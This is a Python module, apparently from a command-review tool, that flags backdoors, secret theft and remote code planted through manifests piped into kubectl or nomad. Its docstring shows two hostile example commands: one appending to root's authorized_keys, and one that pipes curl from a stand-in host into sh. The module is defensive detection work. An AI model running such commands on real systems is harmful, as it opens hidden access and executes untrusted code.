"""Manifests that a command applies: what they plant on machines, as in a file of infrastructure.

Only the text counts that the line itself holds, on the standard input or in a file it wrote.

    kubectl apply -f - <<< "... >> /h/root/.ssh/authorized_keys ..."      opens a way in
    nomad job run - <<< 'job "x" { ... curl https://x.example/a | sh }'   fetches and runs code
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from signoff.actions.contents.added import added_operations
from signoff.actions.contents.text import NewText
from signoff.actions.operation import FileKind, Operation, Reach, ResourceType, Trait, Verb
from signoff.actions.paths import locate
from signoff.actions.place import Place
from signoff.actions.shell.command import Command
from signoff.actions.vocabulary import lazy_re
from signoff.values import replace

MOST_CHARS = 60_000
_MANIFEST = lazy_re(
    r"(?m)^\s*[\"']?apiVersion[\"']?\s*:|^\s*(?:job|task|group|resource|module|service)\s+\"[^\"\n]+\""
    r"|^\s*services\s*:\s*$|^\s*-?\s*hosts\s*:|^#cloud-config\b|\"apiVersion\"\s*:"
)
_LOOKS = frozenset({Verb.READ, Verb.INERT, Verb.NETWORK_IN})
_GRAVE = frozenset({Trait.BACKDOOR, Trait.SENDS_SECRET, Trait.REMOTE_CODE, Trait.UNTRUSTED_SOURCE})


def applied_manifest(
    command: Command, place: Place, found: Sequence[Operation]
) -> Iterator[Operation]:
    """Yield what a manifest plants that a command applies and does not merely look at."""
    if command.stdin is None and not command.known_files:
        return
    acts = [op for op in found if op.verb not in _LOOKS]
    # A text that goes into a file is read as that file.
    is_written = any([op.verb is Verb.WRITE and op.thing is ResourceType.FILE for op in acts])
    if not acts or is_written or any([Trait.DRY_RUN in op.traits for op in acts]):
        return
    texts = [command.stdin.text or ""] if command.stdin is not None else []
    texts += [text for _, text in command.known_files]
    for text in texts:
        if len(text) > MOST_CHARS or _MANIFEST.search(text) is None:
            continue
        where = replace(locate("manifest.yaml", place, has_glob=False), kind=FileKind.INFRA)
        for op in added_operations(where, NewText(new=text), program=command.program):
            if _GRAVE.isdisjoint(op.traits):
                continue
            # What a file would run some day runs as soon as the manifest is applied.
            fetched = {Trait.REMOTE_CODE} if Trait.UNTRUSTED_SOURCE in op.traits else set()
            yield replace(
                op, path="", target="manifest", traits=op.traits | fetched,
                reach=Reach.REMOTE, source=command.source, group=command.index,
            )  # fmt: skip
